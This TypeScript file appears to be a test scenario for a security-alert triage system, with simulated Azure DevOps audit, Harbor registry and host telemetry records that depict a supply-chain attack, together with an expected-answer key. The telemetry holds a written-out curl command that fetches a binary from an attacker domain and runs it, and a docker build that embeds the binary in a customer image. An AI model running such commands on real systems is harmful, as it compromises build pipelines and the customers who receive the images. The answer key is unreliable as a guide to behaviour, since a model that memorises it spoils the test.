// Somebody edits a pipeline under an engineer's name, then Harbor sees the stable tag of an image replaced: the build server did it, and calls out.
import { signedIn } from '../../account-shorthand.ts'
import { alert, connected, hashes, hostile, loggedOn, ran, situation, ticket, wrote } from '../../shorthand.ts'

export const azureDevopsPipelineEditThenHarborTag = situation(
  'azure-devops-pipeline-edit-then-harbor-tag',
  'chains',
  'Azure DevOps pipeline changed, then Harbor tag replaced',
  (setting) => {
    const jonas = setting.person('jonas.brandt')
    const wei = setting.person('wei.chen')
    const build = setting.machine('srv-build-02')
    const at = setting.ago({ hours: 1, minutes: 22 })
    const edited = at - 38 * 60_000
    const minute = 60_000
    const exit = '185.243.96.107'
    const control = 'pkg.nordcloud-metrics.net'
    const address = '45.138.16.203'
    const helper = setting.file('vsts-cache-helper')
    const { guid, hex } = setting.seeded
    const digest = (key: string) => `sha256:${hex(`harbor ${key}`, 64)}`
    const inJob = {
      AccountName: 'azp-agent',
      AccountDomain: build.host,
      FolderPath: '/usr/bin',
      InitiatingProcessFileName: 'Agent.Worker',
      InitiatingProcessCommandLine: '/opt/azp/bin/Agent.Worker spawnclient 131 134',
    }
    return {
      alerts: [
        alert(setting, edited + 3 * minute, 'azure_devops_audit', 'Pipelines.PipelineModified', {
          id: `${edited};${guid('azdo audit')};${guid('azdo org')}`,
          correlationId: guid('azdo correlation'),
          activityId: guid('azdo activity'),
          actorCUID: guid('azdo cuid'),
          actorUserId: guid('azdo user'),
          actorUPN: jonas.email,
          actorDisplayName: jonas.name,
          actorImageUrl: `https://dev.azure.com/havskog/_apis/GraphProfile/MemberAvatars/aad.${hex('azdo avatar', 20)}`,
          authenticationMechanism: 'PAT_Unscoped authorizationId: 7d1c2a10',
          timestamp: setting.iso(edited),
          scopeType: 'organization',
          scopeDisplayName: 'havskog (Organization)',
          scopeId: guid('azdo org'),
          projectId: guid('azdo project'),
          projectName: 'gateway-firmware',
          ipAddress: exit,
          userAgent: 'python-requests/2.32.3',
          actionId: 'Pipelines.PipelineModified',
          area: 'Pipelines',
          category: 'modify',
          categoryDisplayName: 'Modify',
          details: 'Modified pipeline hvs-gateway-image in project gateway-firmware',
          data: {
            PipelineId: 41,
            PipelineName: 'hvs-gateway-image',
            PipelineScope: 'Project',
            PipelineRevision: 118,
            PreviousRevision: 117,
            Repository: 'hvs-gateway',
            Branch: 'refs/heads/main',
            ChangedProperties: ['process.phases[0].steps[2]', 'variables.SKIP_SIGN', 'queue.pool'],
            Pool: { Id: 7, Name: 'onprem-linux', Agents: [build.host] },
            CallerProcedure: 'UpdateDefinition',
          },
          streams: [{ displayName: 'SIEM', consumer: 'Webhook', status: 'enabled' }],
          alertRule: {
            name: 'Pipelines changed with a personal token',
            severity: 'Medium',
            recipients: ['it-larm@havskoginstruments.com'],
            query: 'actionId startswith Pipelines and authenticationMechanism startswith PAT',
          },
          organizationPolicies: {
            externalGuests: false,
            thirdPartyOAuth: true,
            ssh: true,
            ipConditionalAccess: 'not applied to tokens',
          },
          lastBuilds: [
            { id: 4418, result: 'succeeded', reason: 'manual', days_ago: 6 },
            { id: 4397, result: 'succeeded', reason: 'manual', days_ago: 34 },
          ],
          tokenAgeDays: 212,
          tokenName: 'laptop-cli',
          tokenScopes: ['full access'],
          approvalRequired: false,
          branchPolicyBypassed: false,
          environmentCheck: 'none',
          retentionDays: 90,
          link: 'https://dev.azure.com/havskog/_settings/audit',
        }),
        alert(setting, at + minute, 'harbor', 'PUSH_ARTIFACT over an existing tag', {
          specversion: '1.0',
          id: guid('harbor event'),
          source: '/projects/12/webhook/policies/4',
          type: 'harbor.artifact.pushed',
          datacontenttype: 'application/json',
          time: setting.iso(at),
          requestid: hex('harbor request', 20),
          operator: 'robot$delivery+azp',
          data: {
            resources: [
              {
                digest: digest('new'),
                tag: 'stable',
                resource_url: 'registry.havskoginstruments.com/delivery/hvs-gateway:stable',
                size: 184_220_417,
                pull_time: null,
                push_time: setting.iso(at),
                previous_digest: digest('old'),
                previous_push_time: setting.iso(setting.ago({ days: 6 })),
                immutable: false,
                labels: [],
                signature: { cosign: false, notation: false, previous_signed: true },
                sbom_overview: { scan_status: 'Not generated' },
                scan_overview: {
                  report_id: guid('harbor scan'),
                  scan_status: 'Success',
                  severity: 'Low',
                  duration: 14,
                  summary: { total: 9, fixable: 2, summary: { Low: 9 } },
                  scanner: { name: 'Trivy', vendor: 'Aqua Security', version: 'v0.57.0' },
                },
              },
            ],
            repository: {
              date_created: setting.seconds(setting.ago({ days: 402 })),
              name: 'hvs-gateway',
              namespace: 'delivery',
              repo_full_name: 'delivery/hvs-gateway',
              repo_type: 'private',
            },
          },
          client: { address: build.ip, user_agent: 'docker/27.3.1 go/go1.22.7 kernel/5.15.0-125 os/linux arch/amd64' },
          policy: { name: 'Tag of delivery replaced', enabled: true, tag_filter: 'stable', severity: 'warning' },
          project: {
            name: 'delivery',
            prevent_vul: true,
            content_trust: false,
            auto_scan: true,
            quota_used: '61 of 200 GiB',
          },
          replication: [{ target: 'customer-mirror', trigger: 'manual', last: setting.iso(setting.ago({ days: 6 })) }],
          recent: [
            { tag: 'stable', digest: digest('old').slice(0, 19), operator: 'robot$delivery+azp', days_ago: 6 },
            { tag: 'stable', digest: digest('older').slice(0, 19), operator: 'robot$delivery+azp', days_ago: 34 },
          ],
          harbor: { version: 'v2.12.0-4f9c9f1', host: 'registry.havskoginstruments.com', auth_mode: 'oidc_auth' },
          notified: ['firmware-delivery@havskoginstruments.com', 'it-larm@havskoginstruments.com'],
          link: 'https://registry.havskoginstruments.com/harbor/projects/12/repositories/hvs-gateway/artifacts-tab',
        }),
      ],
      facts: {
        investigations: [
          ticket(setting, 'Gateway image 4.2', setting.ago({ days: 7 }), 'NOT_APPLICABLE', [], '', {
            source: 'USER',
            status: 'CLOSED',
            assignee: wei,
            priority: 'LOW',
            tags: ['Release'],
            alerts: [],
            comments: [
              {
                author: wei.name,
                body: '4.2 is stable since this evening. Signed as always.',
                at: setting.ago({ days: 6 }),
              },
              {
                author: jonas.name,
                body: 'Good, then nothing more until 4.3 after the new year. I am in the lab with the interferometer until then.',
                at: setting.ago({ days: 5, hours: 20 }),
              },
            ],
          }),
        ],
        telemetry: [
          loggedOn(setting.laptopOf('jonas.brandt'), at - 170 * minute, jonas.account, {
            LogonType: 'Interactive',
            AccountSid: jonas.sid,
          }),
          signedIn(jonas, at - 160 * minute, jonas.office.externalIp, 'SE'),
          ran(
            build,
            setting.ago({ days: 6 }),
            'docker',
            'docker push registry.havskoginstruments.com/delivery/hvs-gateway:stable',
            inJob,
          ),
          ran(
            build,
            at - 30 * minute,
            'bash',
            `bash -c "curl -fsSL https://${control}/c/helper -o /tmp/.cache/vsts-cache-helper && chmod +x /tmp/.cache/vsts-cache-helper"`,
            inJob,
          ),
          connected(build, at - 30 * minute + 2000, address, {
            RemoteUrl: control,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessAccountName: 'azp-agent',
          }),
          wrote(build, at - 30 * minute + 4000, 'vsts-cache-helper', '/tmp/.cache', helper, {
            FileOriginUrl: `https://${control}/c/helper`,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessAccountName: 'azp-agent',
          }),
          ran(build, at - 29 * minute, 'vsts-cache-helper', '/tmp/.cache/vsts-cache-helper -d', {
            ...inJob,
            ...hashes(helper),
            FolderPath: '/tmp/.cache',
            InitiatingProcessFileName: 'bash',
          }),
          ran(
            build,
            at - 12 * minute,
            'docker',
            'docker build --no-cache --build-arg HELPER=/tmp/.cache/vsts-cache-helper -t registry.havskoginstruments.com/delivery/hvs-gateway:stable .',
            inJob,
          ),
          ran(
            build,
            at - minute,
            'docker',
            'docker push registry.havskoginstruments.com/delivery/hvs-gateway:stable',
            inJob,
          ),
          ...[-28, -13, 2, 17, 32, 47].map((later) =>
            connected(build, at + later * minute, address, {
              RemoteUrl: control,
              InitiatingProcessFileName: 'vsts-cache-helper',
              InitiatingProcessSHA256: helper.sha256,
              InitiatingProcessAccountName: 'azp-agent',
            }),
          ),
          ran(setting.laptopOf('jonas.brandt'), at - 20 * minute, 'matlab.exe', 'matlab.exe -r fringes', {
            AccountName: jonas.account,
            InitiatingProcessFileName: 'explorer.exe',
          }),
        ],
      },
      expected: {
        ...hostile(build.host),
        severities: ['high', 'critical'],
        forbidden: [{ action: 'isolate-machine', target: setting.laptopOf('jonas.brandt').host }],
      },
      because:
        'An old token with full rights was used from a Tor exit while its owner sat in the lab. The changed pipeline fetched a program under the domain of a known command server, built it into the image, left out the signature and replaced the tag that customers get. The program still runs on the build server and reports every quarter of an hour.',
    }
  },
)
